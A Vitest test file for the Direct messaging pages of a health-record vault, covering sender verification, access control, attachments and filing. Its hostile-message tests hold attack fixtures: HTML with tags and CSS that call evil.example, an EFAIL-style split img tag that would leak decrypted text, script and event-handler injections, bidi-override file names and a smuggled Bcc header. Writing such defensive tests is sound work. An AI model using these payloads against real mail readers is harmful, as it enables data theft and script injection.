// The pages of Direct messages: what is told of who sent one, what can be done with it, and who sees it.
import { afterAll, beforeAll, beforeEach, describe, expect, test } from 'vitest';
import type { Doubt } from '../../../core/direct/certificates/standing.ts';
import { clinicalDocument } from '../../../testing/clinical-documents.ts';
import { type GivenMail, givenMail, makeEntity, verified } from '../../../testing/direct/mails.ts';
import { startTestServer, type TestServer } from '../../../testing/server.ts';
import { giveAccess, givenSignedIn, type Visitor } from '../../testing/visitors.ts';

let server: TestServer;
let ada: Visitor;
beforeAll(async () => {
  server = await startTestServer({ directDomain: 'direct.vault.example' });
  ada = await givenSignedIn(server);
});
// What came last is on the first page of an inbox, however many came before.
beforeEach(() => server.clock.pass(1000));
afterAll(() => server.close());

const act = (visitor: Visitor, mail: string, what: string) =>
  visitor.browser
    .open(`/messages/mail/${mail}`)
    .then(page => visitor.browser.submit(page, '/messages/mail/act', { do: what }));

describe('the inbox', () => {
  test('has what came, newest first, with who is verified and what is new, and a count in the menu', async () => {
    const bo = await givenSignedIn(server, 'Bo Example');
    expect((await bo.browser.open('/messages')).text).toContain('No messages yet');
    await givenMail(server.vault, bo.person, { subject: 'First' });
    server.clock.pass(60_000);
    const second = await givenMail(server.vault, bo.person, { subject: 'Second' });
    const page = await bo.browser.open('/messages');
    expect(page.text).toMatch(/Second New Verified: Dr\. Meredith Gray.*First New Verified/);
    expect((await bo.browser.open('/')).html).toMatch(/href="\/messages"[\s\S]{0,200}>2</);
    await bo.browser.open(`/messages/mail/${second}`);
    expect((await bo.browser.open('/')).html).toMatch(/href="\/messages"[\s\S]{0,200}>1</);
  });

  test('goes on where a page ends', async () => {
    const bo = await givenSignedIn(server, 'Bo Example');
    for (let number = 0; number < 27; number++) {
      server.clock.pass(1000);
      await givenMail(server.vault, bo.person, { subject: `Number ${number}.` });
    }
    const first = await bo.browser.open('/messages');
    expect(first.text).toContain('Number 2.');
    expect(first.text).not.toContain('Number 1.');
    const second = await bo.browser.open(first.tag(/href="[^"]*from=/)!.href!);
    expect(second.text).toContain('Number 0.');
    expect(second.text).not.toContain('Number 2.');
    expect((await bo.browser.open('/messages?from=forged')).status).toBe(404);
  });
});

describe('a message', () => {
  test('says whose certificate it was signed by, for what, who vouches and until when', async () => {
    const page = await ada.browser.open(`/messages/mail/${await givenMail(server.vault, ada.person)}`);
    expect(page.text).toContain('Verified: it is sure who sent this');
    expect(page.text).toContain('Dr. Meredith Gray, Clinic of Example');
    expect(page.text).toContain('for this very address, gray@direct.clinic.example');
    expect(page.text).toContain('Example HISP CA');
    expect(page.text).toContain('31 May 2028');
    expect(page.text).toContain('Dr. Gray <gray@direct.clinic.example>');
    expect(page.text).toContain('Please come in on Monday.');
  });

  test('of a whole domain says so, and when it was signed', async () => {
    const standing = { ...verified, boundTo: 'domain' as const, signedAt: Date.UTC(2026, 4, 31, 12) };
    const id = await givenMail(server.vault, ada.person, { standing });
    const { text } = await ada.browser.open(`/messages/mail/${id}`);
    expect(text).toContain('all addresses of direct.clinic.example');
    expect(text).toMatch(/Signed on 31 May 2026.*, by the clock of the sender/);
  });

  const doubts: readonly Doubt[] = [
    'not-signed',
    'not-encrypted',
    'tampered',
    'expired',
    'revoked',
    'untrusted',
    'not-bound',
    'other-signer',
    'weak',
    'unknown-revocation',
    'nested',
    'not-for-you',
  ];
  test.each(doubts)('that is %s warns, and shows nothing as verified', async why => {
    const id = await givenMail(server.vault, ada.person, {
      standing: { kind: 'unverified', why },
      folder: 'unknown',
      fromName: 'Dr. Meredith Gray, verified',
    });
    const page = await ada.browser.open(`/messages/mail/${id}`);
    expect(page.html).toMatch(/class="notice bad standing" role="alert"/);
    expect(page.text).toContain('Not verified: it is not sure who sent this');
    expect(page.html).not.toMatch(/standing verified|standing-tag verified/);
    expect(page.text).not.toContain('Accept this sender');
    expect(page.html).toContain('class="not-sure"');
    expect(page.text).toContain('It calls itself “Dr. Meredith Gray, verified”, which anybody can write.');
    const list = await ada.browser.open('/messages/unknown');
    expect(list.html).not.toContain('standing-tag verified');
    expect(list.text).not.toContain('Dr. Meredith Gray');
  });

  test.each([
    'gray@direct.hospital.example',
    'Ｇray＠hospital.example',
    'Verified by Keepwell',
    'VÉRIFIED: x',
  ])('that calls itself %s is told by its address alone, also where it is verified', async fromName => {
    const id = await givenMail(server.vault, ada.person, { fromName });
    for (const path of ['/messages', `/messages/mail/${id}`])
      expect((await ada.browser.open(path)).text).not.toContain(fromName);
  });

  test('whose subject was not signed has a mark in the list and above its text', async () => {
    const subject = 'STOP YOUR WARFARIN NOW';
    const id = await givenMail(server.vault, ada.person, { subject, isSubjectSigned: false });
    const list = await ada.browser.open('/messages');
    expect(list.text).toMatch(
      /STOP YOUR WARFARIN NOW New Verified: Dr. Meredith Gray, Clinic of Example Subject not signed/,
    );
    expect(list.text).toContain('Dr. Gray <gray@direct.clinic.example>');
    const page = await ada.browser.open(`/messages/mail/${id}`);
    expect(page.text).toContain('The subject is not signed: anybody on its way could have written it.');
    const signed = await ada.browser.open(`/messages/mail/${await givenMail(server.vault, ada.person)}`);
    expect(signed.text).not.toContain('not signed');
  });

  test('is told of in words that differ for each doubt', async () => {
    const told = new Set<string>();
    for (const why of doubts) {
      const id = await givenMail(server.vault, ada.person, { standing: { kind: 'unverified', why } });
      const { html } = await ada.browser.open(`/messages/mail/${id}`);
      told.add(/role="alert">[\s\S]*?<strong>([^<]+)/.exec(html)![1]!);
    }
    expect(told.size).toBe(doubts.length);
  });

  test('of somebody else is missing, whatever is asked of it, even with a record that is shared', async () => {
    const entity = makeEntity({ type: 'text/plain', content: 'secret' }, { type: 'image/png', content: 'x' });
    const id = await givenMail(server.vault, ada.person, { entity });
    const eve = await givenSignedIn(server, 'Eve Example');
    await giveAccess(server, { person: eve.person, record: ada.record }, 'custodian');
    for (const path of ['', '/files/1', '/files/1/preview', '/files/1/read'])
      expect((await eve.browser.open(`/messages/mail/${id}${path}`)).status, path).toBe(404);
    for (const what of ['accept', 'refuse', 'forget', 'keep', 'apart', 'bin', 'back', 'unread', 'file']) {
      const form = (await eve.browser.open('/messages')).form('/sign-out');
      const sent = await eve.browser.post('/messages/mail/act', { ...form, mail: id, do: what });
      expect(sent.status, what).toBe(404);
    }
    expect((await ada.browser.open(`/messages/mail/${id}`)).status).toBe(200);
    expect((await eve.browser.open('/messages')).text).not.toContain('Your results');
  });

  test('is for who is signed in alone', async () => {
    const id = await givenMail(server.vault, ada.person);
    const { Browser } = await import('../../testing/browser.ts');
    const page = await new Browser(server).open(`/messages/mail/${id}`);
    expect(page.url.pathname).toBe('/sign-in');
  });
});

describe('hostile messages', () => {
  test('in HTML are text that can do nothing and loads nothing', async () => {
    const html =
      '<html><body><img src="http://evil.example/?x="><form action="http://evil.example"><input name=a><button>Send</button></form>' +
      '<a href="javascript:alert(1)">tap</a><script>alert(2)</script><style>@import url(http://evil.example/a.css)</style>' +
      '<iframe src="http://evil.example"></iframe><p onmouseover="x()">Dear Ada</p><meta http-equiv=refresh content="0;url=http://evil.example"></body></html>';
    const entity = `Content-Type: text/html\r\n\r\n${html}`;
    const page = await ada.browser.open(
      `/messages/mail/${await givenMail(server.vault, ada.person, { entity })}`,
    );
    expect(page.text).toContain('Dear Ada');
    expect(page.html).not.toMatch(
      /<img[^>]+evil|<form[^>]+evil|<iframe|<script>alert|onmouseover|href="javascript|http-equiv=.?refresh|@import/,
    );
    expect(page.policy).toContain("default-src 'none'");
    expect(page.policy).not.toContain('script-src');
  });

  test('of EFAIL’s kind tell nobody what was decrypted', async () => {
    const entity = makeEntity(
      { type: 'text/html', content: '<img src="http://evil.example/' },
      { type: 'text/plain', content: 'decrypted secret' },
      { type: 'text/html', content: '">' },
    );
    const page = await ada.browser.open(
      `/messages/mail/${await givenMail(server.vault, ada.person, { entity })}`,
    );
    expect(page.status).toBe(200);
    expect(page.html).not.toMatch(/(src|href|action)="[^"]*evil/);
  });

  test('with names that turn around or hide are made readable', async () => {
    const name = 'report\u202efdp.exe';
    const entity = makeEntity(
      { type: 'text/plain', content: 'a\u202eb\u0007c' },
      { type: 'application/octet-stream', name, content: 'MZ' },
    );
    const id = await givenMail(server.vault, ada.person, {
      subject: 'Results\u202e\u0000\r\nBcc: x',
      fromName: '\u202eyarG .rD',
      entity,
    });
    const page = await ada.browser.open(`/messages/mail/${id}`);
    expect(page.html).not.toMatch(/[\u202a-\u202e\u2066-\u2069\u0000\u0007]/);
    expect(page.text).toContain('reportfdp.exe');
    const file = await ada.browser.open(`/messages/mail/${id}/files/1`);
    expect(file.headers.get('content-disposition')).toBe(
      `attachment; filename="reportfdp.exe"; filename*=UTF-8''reportfdp.exe`,
    );
  });

  test('with files that are not what they say are downloads alone', async () => {
    const entity = makeEntity(
      { type: 'text/plain', content: 'x' },
      { type: 'image/png', name: 'a.png', content: '<svg onload=alert(1)>' },
      { type: 'text/html', name: 'b.html', content: '<script>alert(1)</script>' },
    );
    const id = await givenMail(server.vault, ada.person, { entity });
    const picture = await ada.browser.open(`/messages/mail/${id}/files/1/preview`);
    expect(picture.html).not.toContain('onload');
    expect(picture.policy).toContain('sandbox');
    const file = await ada.browser.open(`/messages/mail/${id}/files/2`);
    expect(file.headers.get('content-type')).toBe('application/octet-stream');
    expect(file.headers.get('x-content-type-options')).toBe('nosniff');
    expect(file.headers.get('content-disposition')).toMatch(/^attachment/);
    for (const number of [0, 3, 99])
      expect((await ada.browser.open(`/messages/mail/${id}/files/${number}`)).status).toBe(404);
    expect((await ada.browser.open(`/messages/mail/${id}/files/2/read`)).status).toBe(404);
  });
});

describe('what came with a message', () => {
  test('is told with kind and size, and a clinical document is read as a text', async () => {
    const entity = makeEntity(
      { type: 'text/plain', content: 'See the documents.' },
      { type: 'application/cda+xml', name: 'visit.xml', content: clinicalDocument({}) },
    );
    const id = await givenMail(server.vault, ada.person, { entity });
    const page = await ada.browser.open(`/messages/mail/${id}`);
    expect(page.text).toMatch(/visit\.xml Clinical document \(C-CDA\) · [\d.]+ (kB|bytes)/);
    const read = await ada.browser.open(`/messages/mail/${id}/files/1/read`);
    expect(read.status).toBe(200);
    expect(read.text).toContain('visit.xml');
    expect(read.policy).not.toContain('script-src');
  });

  test('that cannot be read is said so', async () => {
    const content = '<ClinicalDocument xmlns="urn:hl7-org:v3"><title>';
    const entity = makeEntity(
      { type: 'text/plain', content: 'x' },
      { type: 'text/xml', name: 'cut.xml', content },
    );
    const id = await givenMail(server.vault, ada.person, { entity });
    const read = await ada.browser.open(`/messages/mail/${id}/files/1/read`);
    expect(read.status).toBe(200);
    expect(read.text).toContain('cannot be shown here');
  });
});

test('files that are asked for at once come all, one after the other', async () => {
  const files = Array.from({ length: 12 }, (_, n) => ({
    type: 'application/octet-stream',
    name: `${n}.bin`,
    content: Buffer.alloc(300_000, n),
  }));
  const entity = makeEntity({ type: 'text/plain', content: 'x' }, ...files);
  const id = await givenMail(server.vault, ada.person, { entity });
  const got = await Promise.all(files.map((_, n) => ada.browser.open(`/messages/mail/${id}/files/${n + 1}`)));
  expect(got.map(({ status, html }) => [status, html.length])).toEqual(files.map(() => [200, 300_000]));
});

describe('who sent it', () => {
  test('waits apart until accepted, and what they sent is in the inbox and in the record then', async () => {
    const bo = await givenSignedIn(server, 'Bo Example');
    const id = await givenMail(server.vault, bo.person, { folder: 'unknown', subject: 'First contact' });
    const inbox = await bo.browser.open('/messages');
    expect(inbox.text).toContain('1 message of a sender you do not know waits.');
    expect((await bo.browser.open('/messages/record')).text).not.toContain('First contact');
    const accepted = await act(bo, id, 'accept');
    expect(accepted.text).toContain('gray@direct.clinic.example is accepted.');
    expect(accepted.text).not.toContain('Do you know this sender?');
    expect((await bo.browser.open('/messages')).text).toContain('First contact');
    expect((await bo.browser.open('/messages/record')).text).toContain('First contact');
    const undone = await bo.browser.submit(accepted, '/messages/mail/act');
    expect(undone.text).toContain('waits for you again');
  });

  test('can be refused, and that be taken back', async () => {
    const bo = await givenSignedIn(server, 'Bo Example');
    const id = await givenMail(server.vault, bo.person, { folder: 'unknown', subject: 'Offer' });
    const refused = await act(bo, id, 'refuse');
    expect(refused.text).toContain('gray@direct.clinic.example is refused.');
    expect((await bo.browser.open('/messages/spam')).text).toContain('Offer');
    await bo.browser.submit(refused, '/messages/mail/act');
    expect((await bo.browser.open('/messages/unknown')).text).toContain('Offer');
    expect((await bo.browser.open('/messages/spam')).text).not.toContain('Offer');
  });

  test('who was refused can be accepted', async () => {
    const bo = await givenSignedIn(server, 'Bo Example');
    const id = await givenMail(server.vault, bo.person, { folder: 'unknown', subject: 'Offer' });
    await act(bo, id, 'refuse');
    await act(bo, id, 'accept');
    expect((await bo.browser.open('/messages')).text).toContain('Offer');
  });

  test('is accepted or refused by nothing that is not verified', async () => {
    const standing = { kind: 'unverified', why: 'not-signed' } as const;
    const id = await givenMail(server.vault, ada.person, { standing, folder: 'unknown', subject: 'Forged' });
    const page = await ada.browser.open(`/messages/mail/${id}`);
    for (const what of ['accept', 'refuse', 'forget']) {
      const sent = await ada.browser.submit(page, '/messages/mail/act', { do: what });
      expect(sent.status, what).toBe(404);
    }
    expect((await act(ada, id, 'keep')).text).toContain('The message is in the inbox.');
    expect((await ada.browser.open('/messages')).text).toContain('Forged');
  });
});

describe('what is done with a message', () => {
  test('is thrown away and taken back', async () => {
    const bo = await givenSignedIn(server, 'Bo Example');
    const id = await givenMail(server.vault, bo.person, { subject: 'Old news' });
    const binned = await act(bo, id, 'bin');
    expect(binned.text).toContain('The message is in the bin.');
    expect((await bo.browser.open('/messages/bin')).text).toContain('Old news');
    await bo.browser.submit(binned, '/messages/mail/act');
    expect((await bo.browser.open('/messages')).text).toContain('Old news');
  });

  test('is marked as not read', async () => {
    const bo = await givenSignedIn(server, 'Bo Example');
    const id = await givenMail(server.vault, bo.person);
    await bo.browser.open(`/messages/mail/${id}`);
    expect((await bo.browser.open('/messages')).text).not.toContain('New Verified');
    await act(bo, id, 'unread');
    expect((await bo.browser.open('/messages')).text).toContain('New Verified');
  });

  test('is put into the record, with a way to compare what a document holds', async () => {
    const bo = await givenSignedIn(server, 'Bo Example');
    const entity = makeEntity(
      { type: 'text/plain', content: 'See the document.' },
      { type: 'text/xml', name: 'visit.xml', content: clinicalDocument({}) },
    );
    const id = await givenMail(server.vault, bo.person, { entity, subject: 'A visit' });
    const filed = await act(bo, id, 'file');
    expect(filed.text).toContain('The message is in the record.');
    expect(filed.text).toContain('Compare with the record');
    const [, item] = /href="(\/items\/[0-9a-f-]{36})"/.exec(filed.html)!;
    expect((await bo.browser.open(item!)).status).toBe(200);
    const [, compared] = /href="(\/imports\/[0-9a-f-]{36})"/.exec(filed.html)!;
    expect((await bo.browser.open(compared!)).status).toBe(200);
    expect((await bo.browser.open('/messages/record')).text).toContain('A visit');
  });

  test('tells in the record how sure it was who sent it, also to others, and when it is in the bin', async () => {
    const bo = await givenSignedIn(server, 'Bo Example');
    const eve = await givenSignedIn(server, 'Eve Example');
    await giveAccess(server, { person: eve.person, record: bo.record }, 'view');
    eve.browser.cookies.set('keepwell-record', bo.record.id);
    const show = async (given: GivenMail) => {
      const id = await givenMail(server.vault, bo.person, given);
      const [, item] = /href="\/items\/([0-9a-f-]{36})"/.exec((await act(bo, id, 'file')).html)!;
      await act(bo, id, 'bin');
      return eve.browser.open(`/messages/${item}`);
    };
    const sure = await show({ isSubjectSigned: false });
    expect(sure.text).toContain('Verified: it is sure who sent this');
    expect(sure.text).toContain('Dr. Meredith Gray, Clinic of Example');
    expect(sure.text).toContain('nothing of it was changed since');
    const unsure = await show({ standing: { kind: 'unverified', why: 'untrusted' } });
    expect(unsure.text).toContain('Not verified: it is not sure who sent this');
    expect(unsure.text).not.toContain('Verified: it is sure');
  });
});

describe('where messages are', () => {
  test('the addresses from before still lead there', async () => {
    const page = await ada.browser.open('/messages?after=x');
    expect(page.url.pathname).toBe('/messages/record');
  });

  test('is told in every language', async () => {
    for (const [language, text] of [
      ['de', 'Nachrichten'],
      ['es', 'Mensajes'],
      ['fr', 'Messages'],
    ] as const) {
      const page = await ada.browser.open('/messages');
      await ada.browser.submit(page, '/language', { language });
      expect((await ada.browser.open('/messages')).text).toContain(text);
    }
    await ada.browser.submit(await ada.browser.open('/messages'), '/language', { language: 'en' });
  });
});

describe('one’s own address', () => {
  test('is made, shown and chosen, and nobody else gets it', async () => {
    const bo = await givenSignedIn(server, 'Bo Example');
    const page = await bo.browser.open('/messages/address');
    expect(page.text).toContain('You have none yet.');
    const made = await bo.browser.submit(page, '/messages/address', { do: 'make' });
    const [, first] = /id="own-address">([^<]+)</.exec(made.html)!;
    expect(first).toMatch(/^bo\.example\.[a-z\d]{5}@direct\.vault\.example$/);
    const chosen = await bo.browser.submit(made, '/messages/address', { do: 'choose', local: 'Bo.Example' });
    expect(chosen.text).toContain('Your Direct address is bo.example@direct.vault.example.');
    const eve = await givenSignedIn(server, 'Eve Example');
    const other = await eve.browser.open('/messages/address');
    const taken = await eve.browser.submit(other, '/messages/address', { do: 'choose', local: 'bo.example' });
    expect(taken.status).toBe(422);
    expect(taken.text).toContain('This address is taken');
    for (const local of ['a', '.bo', 'bo@x', 'bö', '']) {
      const bad = await eve.browser.submit(other, '/messages/address', { do: 'choose', local });
      expect(bad.status, local).toBe(422);
      expect(bad.text).toContain('only between them');
    }
  });
});

test('the operator is told how Direct does, and nothing of what people write', async () => {
  await using own = await startTestServer({ directDomain: 'direct.vault.example' });
  const olga = await givenSignedIn(own, 'Olga First');
  const bo = await givenSignedIn(own, 'Bo Example');
  await givenMail(own.vault, bo.person, { subject: 'Private matter' });
  const page = await olga.browser.open('/operator/direct');
  expect(page.text).toContain('direct.vault.example');
  expect(page.text).toContain('The domain has no certificate that is valid now');
  expect(page.text).toContain('It trusts nobody yet');
  expect(page.text).toMatch(/Last received 25 Nov 2026/);
  expect(page.text).not.toMatch(/Private matter|gray@|bo\.example/);
  expect((await bo.browser.open('/operator/direct')).status).toBe(404);
  await using plain = await startTestServer();
  const otto = await givenSignedIn(plain, 'Otto First');
  expect((await otto.browser.open('/operator/direct')).text).toContain('keepwell direct setup');
});

test('without Direct, people and the operator are told so, and messages of apps stay where they were', async () => {
  await using plain = await startTestServer();
  const olga = await givenSignedIn(plain, 'Olga First');
  const bo = await givenSignedIn(plain, 'Bo Example');
  for (const path of ['/messages/address', '/messages/unknown', '/messages/sent', '/messages/write']) {
    const page = await bo.browser.open(path);
    expect(page.text, path).toContain('This vault has no Direct messages');
    expect(page.text).not.toContain('how to set Direct up');
  }
  expect((await olga.browser.open('/messages/address')).text).toContain('how to set Direct up');
  const messages = await bo.browser.open('/messages');
  expect(messages.text).toContain('Messages in the record of Bo Example');
  expect(messages.text).not.toContain('Unknown senders');
  expect((await bo.browser.open('/')).html).not.toContain('href="/messages"');
});
